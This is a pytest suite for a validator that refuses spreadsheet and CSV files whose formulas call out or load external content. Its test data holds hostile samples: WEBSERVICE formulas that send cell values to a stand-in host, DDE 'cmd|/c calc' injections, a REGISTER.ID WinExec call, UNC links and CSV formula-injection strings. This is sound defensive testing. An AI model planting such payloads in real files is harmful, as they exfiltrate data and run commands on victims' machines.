"""Formulas of real workbooks: what asks or loads as the sheet is worked out is refused, wherever the formula stands."""

import tracemalloc
from collections.abc import Callable
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

import pytest
from openpyxl import Workbook
from openpyxl.chart import BarChart, Reference
from openpyxl.formatting.rule import FormulaRule
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.table import Table, TableFormula

from core.files.enums import FileFault
from core.files.inspection import workbooks, xml_parts
from tests.core.rules.files.sample_files import fault, office

ASKS = '_xlfn.WEBSERVICE("https://e.example/"&A1)'
SHEET = "xl/worksheets/sheet1.xml"


def saved(book: Workbook) -> bytes:
    made = BytesIO()
    book.save(made)
    return made.getvalue()


def cell(formula: str) -> bytes:
    book = Workbook()
    book.active["B2"] = f"={formula}"
    return saved(book)


def rewritten(content: bytes, part: str, change: Callable[[str], str]) -> bytes:
    """The package with one of its parts as no program would write it."""
    made = BytesIO()
    with ZipFile(BytesIO(content)) as before, ZipFile(made, "w", ZIP_DEFLATED) as after:
        for each in before.infolist():
            text = before.read(each)
            after.writestr(each.filename, change(text.decode()).encode() if each.filename == part else text)
    return made.getvalue()


@pytest.mark.parametrize(
    "formula",
    [
        ASKS,
        f'_xlfn.FILTERXML({ASKS},"//rate")',
        'webservice ("https://e.example")',
        'IF(A1>0,RTD("a.server",,"LITHIUM"),0)',
        '_xlfn.IMAGE("https://e.example/a.png")',
        '_xlfn.IMPORTCSV("https://e.example/a.csv")',
        '_xlfn.STOCKHISTORY("XNYS:ALB",TODAY())',
        "_xlfn._xlws.PY(0,1,A1)",
        'CUBEVALUE("ThisWorkbookDataModel","[Measures].[Sum]")',
        'REGISTER.ID("kernel32","WinExec")',
        "[1]Sheet1!A1",
        "SUM('[2]Été 2026'!A1:A9)",
        "'[1]L''annexe'!A1",
        "[1]!Total",
        "[量.xlsx]表!A1",
        r"'\\192.0.2.1\share\[a.xlsx]Sheet1'!A1",
        "'https://e.example/a.xlsx'!Total",
        "cmd|'/c calc'!A0",
        "Excel|Sheet1!R1C1",
    ],
)
def test_a_formula_that_asks_or_loads_is_refused(formula: str) -> None:
    assert fault(cell(formula), "a.xlsx") is FileFault.FORMULA


@pytest.mark.parametrize(
    "formula",
    [
        "SUM(A1:A2)",
        "'L''annexe'!A1+Sheet!B1",
        'HYPERLINK("https://e.example/a.pdf","Report")',
        '_xlfn.FILTERXML(A1,"//rate")',
        "_xlfn._xlws.FILTER(A1:A3,B1:B3)",
        "Lots[Tonnes]*Sheet!A1",
        "Lots[Tonnes]&'My sheet'!A1",
        "SUM(Lots[[#This Row],[a]:[c]])/Sheet!B1",
        "[0]!Print_Area",
        "A1/B1&'My sheet'!C1",
        '"Image (front), 20 [%] | "&Sheet!B1',
        "INDIRECT(A1)",
    ],
)
def test_a_formula_that_stays_within_its_workbook_is_taken(formula: str) -> None:
    assert fault(cell(formula), "a.xlsx") is None


def named(book: Workbook) -> None:
    book.defined_names["Rate"] = DefinedName("Rate", attr_text=ASKS)


def on_a_condition(book: Workbook) -> None:
    book.active.conditional_formatting.add("A1:A9", FormulaRule(formula=[ASKS]))


def among_allowed_values(book: Workbook) -> None:
    book.active.add_data_validation(DataValidation(type="custom", formula1="TRUE", formula2=ASKS, sqref="A1"))


def in_a_table(book: Workbook) -> None:
    for row in (["Lot", "Tonnes"], [1, 2]):
        book.active.append(row)
    table = Table(displayName="Lots", ref="A1:B2")
    table._initialise_columns()
    table.tableColumns[1].calculatedColumnFormula = TableFormula(attr_text=ASKS)
    book.active.add_table(table)


def in_a_chart(book: Workbook) -> None:
    chart = BarChart()
    chart.add_data(Reference(book.active, min_col=1, min_row=1, max_row=3))
    chart.series[0].val.numRef.f = "[1]Sheet!$A$1:$A$3"
    book.active.add_chart(chart, "D1")


@pytest.mark.parametrize("put", [named, on_a_condition, among_allowed_values, in_a_table, in_a_chart])
def test_wherever_a_workbook_keeps_a_formula_it_is_read(put: Callable[[Workbook], None]) -> None:
    book = Workbook()
    put(book)
    assert fault(saved(book), "a.xlsx") is FileFault.FORMULA


@pytest.mark.parametrize(
    "written",
    [
        f"<f>{'&#87;'}EBSERVICE(A1)</f>",
        "<f>WEB<!-- -->SERVICE(A1)</f>",
        "<f><![CDATA[WEBSERVICE(A1)]]></f>",
        "<f>1+<f>2</f>+WEBSERVICE(A1)</f>",
        '<x xmlns="urn:x" textlink="[1]Sheet!A1"/>',
    ],
)
def test_however_it_is_written_it_is_read(written: str) -> None:
    content = rewritten(cell("SUM(A1)"), SHEET, lambda text: text.replace("<f>SUM(A1)</f>", written))
    assert fault(content, "a.xlsx") is FileFault.FORMULA


def test_a_sheet_under_another_name_is_read() -> None:
    of_sheet = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
    types = f'<Types><Override PartName="/elsewhere/A.bin" ContentType="{of_sheet}"/></Types>'
    content = office("xl/workbook.xml", {"elsewhere/a.bin": f"<c><f>{ASKS.replace('&', '&amp;')}</f></c>"}, types)
    assert fault(content, "a.xlsx") is FileFault.FORMULA


@pytest.mark.parametrize(
    ("name", "body", "type_"),
    [
        ("a.xlsx", "xl/workbook.xml", "spreadsheetml.printerSettings"),
        ("a.xlsx", "xl/workbook.xml", "spreadsheetml.customProperty"),
        ("a.docx", "word/document.xml", "wordprocessingml.printerSettings"),
    ],
)
def test_what_office_programs_keep_of_a_printer_is_no_text_and_is_let_through(name: str, body: str, type_: str) -> None:
    kind = f"application/vnd.openxmlformats-officedocument.{type_}"
    types = f'<Types><Default Extension="bin" ContentType="{kind}"/></Types>'
    content = office(body, {"printerSettings/printerSettings1.bin": b"H\x00P\x00\xff\xfe"}, types)
    assert fault(content, name) is None


def test_what_says_so_in_a_text_asks_for_nothing() -> None:
    book = Workbook()
    book.active["A1"] = "WEBSERVICE(A1) and [1]Sheet!A1"
    assert fault(saved(book), "a.xlsx") is None


@pytest.mark.parametrize(
    ("table", "why"),
    [
        ('a,"=WEBSERVICE(""https://e.example/""&A1)"', FileFault.FORMULA),
        ('a;=SERVICEWEB("https://e.example")', FileFault.FORMULA),
        ('\ufeff=IF(1,IMAGE("https://e.example/a.png"),1)', FileFault.FORMULA),
        ('x,"=1+\nRTD(""a.server"",,1)"', FileFault.FORMULA),
        ("x\r\n-1+cmd|' /C calc'!A0", FileFault.FORMULA),
        (r"@'\\192.0.2.1\a\[b.xlsx]Sheet1'!A1", FileFault.FORMULA),
        ("a,-5,=SUM(A1:A2)\nImage (front) [1],a|b\n", None),
        ("How WEBSERVICE(…) is used\tcmd|'x'\n", None),
        ("-5,Image (front)", None),
        ("RTD (road transport),-\nDDE (Direction);-5\n", None),
        ('x,"-1+\nRTD(""a.server"",,1)"', FileFault.FORMULA),
        (f'a,"{"b" * 200_000}"\n=RTD("a.server",,1)', FileFault.FORMULA),
    ],
)
def test_a_table_as_text_is_refused_for_what_a_spreadsheet_makes_of_its_cells(
    table: str, why: FileFault | None
) -> None:
    assert fault(table.encode(), "a.csv") is why
    assert fault(table.encode(), "a.txt") is None


@pytest.mark.parametrize("text", ["!/" + "a" * 300_000, "!/" + "''" * 150_000, "![x]" + "a " * 150_000])
def test_a_long_text_takes_no_memory_beyond_its_size(text: str) -> None:
    tracemalloc.start()
    try:
        assert not workbooks.loads(text)
        _now, most = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert most < 10 * len(text)


def test_sheets_are_read_no_further_than_their_limit(monkeypatch: pytest.MonkeyPatch) -> None:
    content = cell(ASKS)
    monkeypatch.setattr(xml_parts, "LARGEST_TEXT", 1_000)
    assert fault(content, "a.xlsx") is FileFault.TOO_LARGE
    monkeypatch.undo()
    longest = rewritten(cell("SUM(A1)"), SHEET, lambda text: text.replace("SUM(A1)", "1+" * 60_000))
    assert fault(longest, "a.xlsx") is FileFault.SWELLS
